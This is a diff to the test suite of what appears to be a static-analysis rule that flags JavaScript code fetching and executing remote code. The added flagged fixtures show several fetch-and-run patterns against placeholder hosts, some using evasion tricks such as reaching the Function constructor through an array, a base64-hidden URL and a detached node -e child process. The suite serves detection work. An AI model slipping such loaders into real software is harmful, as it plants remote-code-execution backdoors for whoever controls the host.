@@ -23,6 +23,21 @@ ruleTest(rule, {
       file: 'server/prices.js',
       code: "const axios = require('axios');\nconst r = await axios.get('https://api.coingecko.com/api/v3/simple/price');\nconst prices = JSON.parse(r.data);\n",
     },
+    {
+      name: 'a build check runs a literal program with node -e (no network text reaches it)',
+      file: 'scripts/check.js',
+      code: "const { spawnSync } = require('child_process');\nconst r = spawnSync(process.execPath, ['-e', 'console.log(process.versions.v8)']);\nfetch('https://registry.npmjs.org/x').then((r) => r.json());\n",
+    },
+    {
+      name: 'config loader: require-from-string over a local file',
+      file: 'lib/load.js',
+      code: "const fs = require('fs');\nconst requireFromString = require('require-from-string');\nmodule.exports = (f) => requireFromString(fs.readFileSync(f, 'utf8'), f);\nconst axios = require('axios');\n",
+    },
+    {
+      name: 'a downloaded JSON handed to a spawned node script as a data argument, not as -e code',
+      file: 'scripts/report.js',
+      code: "const { spawn } = require('child_process');\nfetch('https://api.example.com/stats').then((r) => r.text()).then((t) => spawn(process.execPath, ['scripts/print.js', t]));\n",
+    },
   ],
   flagged: [
     {
@@ -85,6 +100,58 @@ ruleTest(rule, {
         "require('/tmp/' + 'p.js');",
       ].join('\n'),
       findings: [{ line: 5, message: /require\(<file just written>\)/ }],
+    },
+    {
+      name: '[].constructor.constructor (Function reached through an array) runs an https.get body',
+      file: 'index.js',
+      code: [
+        "const https = require('https');",
+        "https.get('https://cfg.example.invalid/x', (res) => {",
+        "  let body = '';",
+        "  res.on('data', (c) => (body += c));",
+        "  res.on('end', () => {",
+        '    const F = [].constructor.constructor;',
+        "    F('require', body)(require);",
+        '  });',
+        '});',
+      ].join('\n'),
+      findings: [{ line: 7, severity: 'critical', confidence: 'high', decoded: 'https://cfg.example.invalid/x' }],
+    },
+    {
+      name: 'AsyncFunction constructor from Object.getPrototypeOf runs fetched code',
+      file: 'server/boot.js',
+      code: "const AF = Object.getPrototypeOf(async function () {}).constructor;\nfetch('https://cfg.example.invalid/y').then((r) => r.text()).then((t) => new AF('require', t)(require));\n",
+      findings: [{ line: 2, severity: 'critical', decoded: 'https://cfg.example.invalid/y' }],
+    },
+    {
+      name: 'downloaded text handed to a detached node -e child',
+      file: 'api/index.js',
+      code: [
+        "const { spawn } = require('child_process');",
+        "fetch(atob('aHR0cHM6Ly9jZmcuZXhhbXBsZS5pbnZhbGlkL3o=')).then((r) => r.text()).then((src) => {",
+        "  spawn(process.execPath, ['-e', src], { detached: true, stdio: 'ignore' }).unref();",
+        '});',
+      ].join('\n'),
+      findings: [{ line: 3, severity: 'critical', confidence: 'high', decoded: 'https://cfg.example.invalid/z', message: /spawn\(process\.execPath, \['-e'/ }],
+    },
+    {
+      name: 'python -c with a downloaded program (execFile)',
+      file: 'tools/run.js',
+      code: "const cp = require('child_process');\nconst axios = require('axios');\naxios.get('https://cfg.example.invalid/p.py').then(({ data }) => cp.execFile('python3', ['-c', data]));\n",
+      findings: [{ line: 3, severity: 'critical', decoded: 'https://cfg.example.invalid/p.py' }],
+    },
+    {
+      name: 'require-from-string loads a got() body as a module',
+      file: 'lib/session.js',
+      code: [
+        "const got = require('got');",
+        "const requireFromString = require('require-from-string');",
+        '(async () => {',
+        "  const res = await got('https://cfg.example.invalid/m.js');",
+        '  requireFromString(res.body);',
+        '})();',
+      ].join('\n'),
+      findings: [{ line: 5, severity: 'critical', decoded: 'https://cfg.example.invalid/m.js', message: /requireFromString\(\) \(require-from-string\)/ }],
     },
   ],
 });
